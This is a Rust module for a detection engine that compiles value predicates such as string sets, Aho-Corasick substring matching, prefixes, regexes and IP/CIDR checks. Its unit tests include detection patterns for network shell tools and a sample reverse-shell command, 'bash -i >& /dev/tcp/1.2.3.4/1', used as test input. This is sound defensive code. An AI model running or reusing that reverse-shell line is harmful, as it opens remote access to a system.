//! Value tests built once at compile time: equality sets, Aho-Corasick for
//! `contains`, prefix/suffix lists, one regex for globs and regexes (the
//! `regex` crate: linear time, no backtracking).

use std::collections::HashSet;
use std::net::IpAddr;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use event::fields::Value;

use crate::cond::Op;

/// Equality sets larger than this use a hash set.
const SET_MIN: usize = 8;
/// Compiled regexes (from globs or `regex`) may not grow beyond this.
const REGEX_SIZE_LIMIT: usize = 1 << 20;

#[derive(Debug)]
pub enum Test {
    Str(StrTest),
    Int(IntTest),
    Bool(bool),
    Ip(IpTest),
    Exists,
}

#[derive(Debug)]
pub enum StrTest {
    Eq(Vec<Box<str>>),
    EqSet(HashSet<Box<str>, foldhash::fast::RandomState>),
    /// Lower-cased values.
    IEq(Vec<Box<str>>),
    IEqSet(HashSet<Box<str>, foldhash::fast::RandomState>),
    Contains(AhoCorasick, String),
    StartsWith(Vec<Box<str>>),
    EndsWith(Vec<Box<str>>),
    IStartsWith(Vec<Box<str>>),
    IEndsWith(Vec<Box<str>>),
    Regex(regex::Regex),
}

#[derive(Debug)]
pub enum IntTest {
    In(Vec<i64>),
    Cmp(Op, i64),
}

#[derive(Debug)]
pub enum IpTest {
    In(Vec<IpAddr>),
    Cidr(Vec<ipnet::IpNet>),
}

impl StrTest {
    pub fn eq(values: &[&str], insensitive: bool) -> StrTest {
        let boxed: Vec<Box<str>> =
            values.iter().map(|v| if insensitive { v.to_ascii_lowercase().into() } else { (*v).into() }).collect();
        match (insensitive, boxed.len() >= SET_MIN) {
            (false, false) => StrTest::Eq(boxed),
            (false, true) => StrTest::EqSet(boxed.into_iter().collect()),
            (true, false) => StrTest::IEq(boxed),
            (true, true) => StrTest::IEqSet(boxed.into_iter().collect()),
        }
    }

    pub fn contains(values: &[&str], insensitive: bool) -> StrTest {
        let key = format!("{insensitive}:{values:?}");
        // Building from literal byte patterns cannot fail below the default
        // size limits; fall back to a regex alternation if it ever does.
        match AhoCorasickBuilder::new()
            .ascii_case_insensitive(insensitive)
            .match_kind(MatchKind::Standard)
            .build(values)
        {
            Ok(ac) => StrTest::Contains(ac, key),
            Err(_) => {
                let alt = values.iter().map(|v| regex::escape(v)).collect::<Vec<_>>().join("|");
                let src = if insensitive { format!("(?i){alt}") } else { alt };
                StrTest::regex(&src).unwrap_or(StrTest::Eq(Vec::new()))
            }
        }
    }

    pub fn regex(src: &str) -> Result<StrTest, regex::Error> {
        regex::RegexBuilder::new(src).size_limit(REGEX_SIZE_LIMIT).build().map(StrTest::Regex)
    }

    pub fn matches(&self, s: &str) -> bool {
        match self {
            StrTest::Eq(v) => v.iter().any(|x| &**x == s),
            StrTest::EqSet(set) => set.contains(s),
            StrTest::IEq(v) => v.iter().any(|x| x.eq_ignore_ascii_case(s)),
            StrTest::IEqSet(set) => set.contains(s.to_ascii_lowercase().as_str()),
            StrTest::Contains(ac, _) => ac.is_match(s),
            StrTest::StartsWith(v) => v.iter().any(|p| s.starts_with(&**p)),
            StrTest::EndsWith(v) => v.iter().any(|p| s.ends_with(&**p)),
            StrTest::IStartsWith(v) => {
                v.iter().any(|p| s.len() >= p.len() && s.as_bytes()[..p.len()].eq_ignore_ascii_case(p.as_bytes()))
            }
            StrTest::IEndsWith(v) => v
                .iter()
                .any(|p| s.len() >= p.len() && s.as_bytes()[s.len() - p.len()..].eq_ignore_ascii_case(p.as_bytes())),
            StrTest::Regex(r) => r.is_match(s),
        }
    }

    fn key(&self) -> String {
        match self {
            StrTest::Eq(v) => format!("eq{v:?}"),
            StrTest::EqSet(s) => {
                let mut v: Vec<_> = s.iter().collect();
                v.sort();
                format!("eqs{v:?}")
            }
            StrTest::IEq(v) => format!("ieq{v:?}"),
            StrTest::IEqSet(s) => {
                let mut v: Vec<_> = s.iter().collect();
                v.sort();
                format!("ieqs{v:?}")
            }
            StrTest::Contains(_, k) => format!("has{k}"),
            StrTest::StartsWith(v) => format!("sw{v:?}"),
            StrTest::EndsWith(v) => format!("ew{v:?}"),
            StrTest::IStartsWith(v) => format!("isw{v:?}"),
            StrTest::IEndsWith(v) => format!("iew{v:?}"),
            StrTest::Regex(r) => format!("re{}", r.as_str()),
        }
    }
}

impl Test {
    /// Identity for sharing equal predicates.
    pub fn key(&self) -> String {
        match self {
            Test::Str(s) => s.key(),
            Test::Int(IntTest::In(v)) => format!("in{v:?}"),
            Test::Int(IntTest::Cmp(op, v)) => format!("{}{v}", op.name()),
            Test::Bool(b) => format!("b{b}"),
            Test::Ip(IpTest::In(v)) => format!("ip{v:?}"),
            Test::Ip(IpTest::Cidr(v)) => format!("cidr{v:?}"),
            Test::Exists => "exists".into(),
        }
    }

    /// Whether one value passes (the mask already applied to ints).
    pub fn matches(&self, v: Value<'_>) -> bool {
        match (self, v) {
            (Test::Exists, _) => true,
            (Test::Str(t), Value::Str(s)) => t.matches(s),
            (Test::Str(t), other) => t.matches(&other.to_string()),
            (Test::Int(IntTest::In(set)), Value::Int(i)) => set.contains(&i),
            (Test::Int(IntTest::Cmp(op, x)), Value::Int(i)) => match op {
                Op::Lt => i < *x,
                Op::Le => i <= *x,
                Op::Gt => i > *x,
                Op::Ge => i >= *x,
                _ => false,
            },
            (Test::Bool(b), Value::Bool(v)) => *b == v,
            (Test::Ip(IpTest::In(set)), Value::Ip(ip)) => set.iter().any(|x| same_ip(*x, ip)),
            (Test::Ip(IpTest::Cidr(nets)), Value::Ip(ip)) => {
                let ip = canonical(ip);
                nets.iter().any(|n| n.contains(&ip))
            }
            _ => false,
        }
    }
}

/// IPv4-mapped IPv6 addresses (`::ffff:1.2.3.4`) compare as IPv4.
fn canonical(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
        v4 => v4,
    }
}

fn same_ip(a: IpAddr, b: IpAddr) -> bool {
    canonical(a) == canonical(b)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_tests() {
        assert!(StrTest::eq(&["a", "b"], false).matches("b"));
        assert!(!StrTest::eq(&["a"], false).matches("A"));
        assert!(StrTest::eq(&["BaSh"], true).matches("bash"));
        let many: Vec<String> = (0..20).map(|i| format!("V{i}")).collect();
        let refs: Vec<&str> = many.iter().map(|s| s.as_str()).collect();
        assert!(StrTest::eq(&refs, true).matches("v13"));
        assert!(StrTest::eq(&refs, false).matches("V13") && !StrTest::eq(&refs, false).matches("v13"));
        assert!(StrTest::contains(&["/dev/tcp/", "nc -e"], false).matches("bash -i >& /dev/tcp/1.2.3.4/1"));
        assert!(StrTest::contains(&["WGET"], true).matches("/usr/bin/wget -q"));
        assert!(StrTest::IStartsWith(vec!["/tmp/".into()]).matches("/TMP/x"));
        assert!(StrTest::IEndsWith(vec!["/nc".into()]).matches("/usr/bin/NC"));
        assert!(!StrTest::IEndsWith(vec!["/nc".into()]).matches("c"));
        assert!(StrTest::regex("^a.*z$").unwrap().matches("abcz"));
    }

    #[test]
    fn ip_tests() {
        let v4: IpAddr = "10.1.2.3".parse().unwrap();
        let mapped: IpAddr = "::ffff:10.1.2.3".parse().unwrap();
        let net = Test::Ip(IpTest::Cidr(vec!["10.0.0.0/8".parse().unwrap()]));
        assert!(net.matches(Value::Ip(v4)) && net.matches(Value::Ip(mapped)));
        assert!(Test::Ip(IpTest::In(vec![v4])).matches(Value::Ip(mapped)));
        assert!(Test::Str(StrTest::StartsWith(vec!["10.".into()])).matches(Value::Ip(v4)));
    }
}
